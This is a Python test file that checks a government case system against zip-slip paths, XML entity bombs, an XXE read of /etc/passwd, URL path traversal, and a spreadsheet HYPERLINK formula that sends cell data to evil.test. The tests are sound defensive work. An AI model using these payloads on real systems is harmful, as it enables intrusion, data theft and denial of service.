"""Known holes of government case systems, each knocked at: what must not go through does not, and says why."""

from __future__ import annotations

import io
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any

import httpx
import pytest
import xlsxwriter

from api.access import WORKBOOK
from models import Endpoint, Role
from services.access import Caller
from services.database import table
from services.doors.inbox import download_work
from services.errors import InputError
from services.house import House
from services.intake.workbooks import read_workbook
from services.settings import Settings
from services.upkeep.backup import back_up, restore
from tests.api.conftest import Knock
from tests.testing.departments import Departments, work
from tests.testing.people import application, body, registered

OFFICER = Caller("li", Role.OFFICER, "police")
_SHEET = "xl/worksheets/sheet1.xml"
_LAUGHS = (
    b'<!DOCTYPE z [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]>"
)


def _workbook(**parts: bytes) -> bytes:
    """A workbook with further parts, or with others in their place."""
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        book.add_worksheet("x").write("A1", "x")
    whole = io.BytesIO()
    with zipfile.ZipFile(content) as read, zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as written:
        for part in read.infolist():
            written.writestr(part.filename, parts.pop(part.filename, None) or read.read(part))
        for name, extra in parts.items():
            written.writestr(name, extra)
    return whole.getvalue()


def _files(folder: Path) -> set[Path]:
    return {file for file in folder.rglob("*") if file.is_file()}


@pytest.mark.parametrize("name", ["../../evil.txt", "/evil.txt", "..\\..\\evil.txt", "xl/../../evil.txt"])
def test_a_workbook_writes_nothing_wherever_its_parts_say_they_are(tmp_path: Path, name: str) -> None:
    inner = tmp_path / "a" / "b"
    inner.mkdir(parents=True)
    path = inner / "in.xlsx"
    path.write_bytes(_workbook(**{name: b"evil"}))
    before = _files(tmp_path)
    # Read or refused, nothing of it is unpacked.
    with suppress(InputError):
        list(read_workbook(path))
    assert _files(tmp_path) == before
    assert not Path("/evil.txt").exists()


async def test_a_back_up_restores_its_own_parts_and_no_others(house: House, tmp_path: Path) -> None:
    await registered(house, application())
    path, there = tmp_path / "one.zip", tmp_path / "there" / "data"
    settings = Settings(data_dir=tmp_path / "from", _env_file=None)
    with pytest.raises(InputError):
        await back_up(settings, path)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.json", '{"format": "lianban-backup/1", "digests": {"../../evil": "0"}}')
        archive.writestr("../../evil", "evil")
    before = _files(tmp_path)
    with pytest.raises(InputError, match="damaged"):
        await restore(Settings(data_dir=there, _env_file=None), path)
    assert _files(tmp_path) == before


async def test_a_sheet_for_a_department_runs_nothing_that_an_applicant_wrote(
    house: House, departments: Departments
) -> None:
    await departments.disconnect(house, "police")
    one = body()
    one["person"]["address"] = '=HYPERLINK("http://evil.test/?"&A1,"x")'
    async with house.database.write("administrator:test") as transaction:
        await transaction.connection.execute(table(Endpoint).delete().where(table(Endpoint).c.department == "police"))
    (number,) = await registered(house, application(**{"person": one["person"]}))
    await work(house, number)
    taken = await download_work(house, OFFICER, "police")
    with zipfile.ZipFile(io.BytesIO(taken.content)) as archive:
        sheet = archive.read(_SHEET)
        assert b"<f>" not in sheet
        assert b"hyperlink" not in sheet.lower()
        assert b"HYPERLINK" in archive.read("xl/sharedStrings.xml")


@pytest.mark.parametrize(
    ("content", "status"),
    [
        (
            _workbook(
                **{_SHEET: _LAUGHS + b"<worksheet><sheetData><row><c><v>&j;</v></c></row></sheetData></worksheet>"}
            ),
            422,
        ),
        (_workbook(**{_SHEET: b'<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet/>'}), 422),
        (_workbook(**{_SHEET: b"<worksheet><sheetData>" + b"<row/>" * 400_000 + b"</sheetData></worksheet>"}), 422),
        (b"PK\x03\x04" + b"\0" * 100, 422),
        (b"x" * 1_000_001, 413),
    ],
    ids=["laughs", "outside", "rows", "cut", "large"],
)
async def test_a_bomb_handed_in_over_http_is_refused(knock: Knock, content: bytes, status: int) -> None:
    officer = await knock(Role.OFFICER, "police")
    answer = await officer.post(
        "/api/v1/doors/police/sheet/outcomes", content=content, headers={"content-type": WORKBOOK}
    )
    assert answer.status_code == status, answer.text
    assert "root:" not in answer.text


async def test_a_search_tells_a_stranger_nothing_not_even_how_many(house: House, knock: Knock) -> None:
    one = application()
    (number,) = await registered(house, one)
    own, stranger = await knock(Role.CLERK, "370303"), await knock(Role.CLERK, "370304")

    async def found(client: httpx.AsyncClient, **query: str) -> Any:
        return (await client.post("/api/v1/cases/search", json=query)).json()

    for query in ({"id_number": one.person.id_number}, {"name": one.person.name}):
        assert [item["number"] for item in (await found(own, **query))["items"]] == [number]
        assert await found(stranger, **query) == {"items": [], "more": False}
    for path in ("", "/timeline", "/access-log", "/decisions", "/decisions/1"):
        hidden = await stranger.get(f"/api/v1/cases/{number}{path}")
        absent = await stranger.get(f"/api/v1/cases/370304-2014-999999{path}")
        assert (hidden.status_code, hidden.json().get("detail")) == (absent.status_code, absent.json().get("detail"))


@pytest.mark.parametrize(
    "path",
    ["/console/static/..%2f..%2f..%2fetc%2fpasswd", "/console/static/%2e%2e/assets.py", "/api/v1/schemas/..%2f..json"],
)
async def test_no_address_leads_out_of_its_folder(knock: Knock, path: str) -> None:
    answer = await (await knock(Role.ADMINISTRATOR)).get(path)
    assert answer.status_code in {404, 422}
    assert "root:" not in answer.text
